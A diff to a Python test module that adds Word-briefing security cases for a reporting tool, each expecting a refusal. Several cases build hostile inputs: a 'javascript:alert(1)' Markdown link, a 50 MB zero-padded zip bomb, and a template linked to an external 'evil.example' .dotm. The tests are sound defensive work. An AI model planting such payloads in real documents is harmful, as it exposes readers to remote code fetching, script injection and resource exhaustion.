@@ -13,6 +13,7 @@ import os
 import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from pathlib import Path
 
 from workspace import Workspace
 
@@ -189,6 +190,54 @@ def _round_outside_any_workbook(ws: Workspace) -> None:
 
 def _same_round_twice(ws: Workspace) -> None:
     (ws.root / "parameters" / "llr-2017-copy.yaml").write_text(ws.parameters.read_text(encoding="utf-8"), "utf-8")
+
+
+def _docx_template(change: Callable[[Path], None]) -> Callable[[Workspace], None]:
+    """A Word template beside the parameters (auditkit's own, then ``change`` applied to it) named by the round."""
+
+    def plant(ws: Workspace) -> None:
+        from auditkit.briefing.docx_template import DEFAULT_TEMPLATE
+
+        path = ws.parameters.parent / "partnership.docx"
+        path.write_bytes(DEFAULT_TEMPLATE.read_bytes())
+        change(path)
+        ws.replace(ws.parameters, "briefing:\n", "briefing:\n  docx_template: partnership.docx\n")
+
+    return plant
+
+
+def _attached_from_a_server(path: Path) -> None:
+    import docx
+    from docx.opc.constants import RELATIONSHIP_TYPE
+
+    document = docx.Document(str(path))
+    settings = document.part.part_related_by(RELATIONSHIP_TYPE.SETTINGS)
+    attached = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    settings.relate_to("https://evil.example/ZQXREMOTE.dotm", attached, is_external=True)
+    document.save(str(path))
+
+
+def _padded_with_zeros(path: Path) -> None:
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/media/padding.bin", b"\0" * (50 << 20))  # 50 MB that zip to some 50 KB
+
+
+def _without_quote_style(path: Path) -> None:
+    import docx
+
+    document = docx.Document(str(path))
+    style = document.styles["Quote"].element
+    style.getparent().remove(style)
+    document.save(str(path))
+
+
+def _edited_docx(ws: Workspace) -> None:
+    import docx
+
+    path = ws.report / "briefing.docx"
+    document = docx.Document(str(path))
+    document.paragraphs[0].text = "An edited title"
+    document.save(str(path))
 
 
 CASES: tuple[Case, ...] = (
@@ -723,5 +772,63 @@ CASES: tuple[Case, ...] = (
         "the change to size the next round for given as .nan",
         _append_parameters("\npower: {change: .nan}\n"),
         refusal="key 'power → change': nan is not a change a round can be sized for",
+    ),
+    # ------------------------------------------------------------------ issue 19: the Word briefing
+    # Every case above that plants a token also reads briefing.docx (its XML and its text): the quotes, bidi and
+    # zero-width cases check the Word briefing as they check the HTML and PDF.
+    Case(
+        "markdown-javascript-link",
+        19,
+        "a javascript: link written in Markdown in the briefing's summary",
+        _parameters(
+            "summary: >-\n    This briefing", "summary: >-\n    [Read more](javascript:alert(1)) This briefing"
+        ),
+        token="javascript:",
+    ),
+    Case(
+        "docx-template-not-a-docx",
+        19,
+        "a Word template that is a text file named .docx",
+        _docx_template(lambda path: path.write_text("ZQXNOTWORD", encoding="utf-8")),
+        token="ZQXNOTWORD",
+        refusal="is not a Word document (.docx)",
+    ),
+    Case(
+        "docx-template-zip-bomb",
+        19,
+        "a Word template that expands a thousandfold",
+        _docx_template(_padded_with_zeros),
+        refusal="expands to more than 100 times its size",
+    ),
+    Case(
+        "docx-template-attached-from-a-server",
+        19,
+        "a Word template attached from a server, which a reader's Word would fetch",
+        _docx_template(_attached_from_a_server),
+        token="ZQXREMOTE",
+        refusal="refers to something outside itself",
+    ),
+    Case(
+        "docx-template-without-a-style",
+        19,
+        "a Word template without the Quote style the briefing uses",
+        _docx_template(_without_quote_style),
+        refusal="has no style 'Quote'",
+    ),
+    Case(
+        "formats-unknown",
+        19,
+        "a parameters file naming a briefing format auditkit does not write",
+        _append_parameters("\nformats: [html, odt]\n"),
+        refusal="'odt' is not a briefing format; allowed: html, pdf, docx",
+        command=VALIDATE,
+    ),
+    Case(
+        "verify-edited-docx",
+        19,
+        "a published briefing.docx edited after the run",
+        _edited_docx,
+        refusal="briefing.docx",
+        command=("verify", "{root}/reports/llr-2017"),
     ),
 )
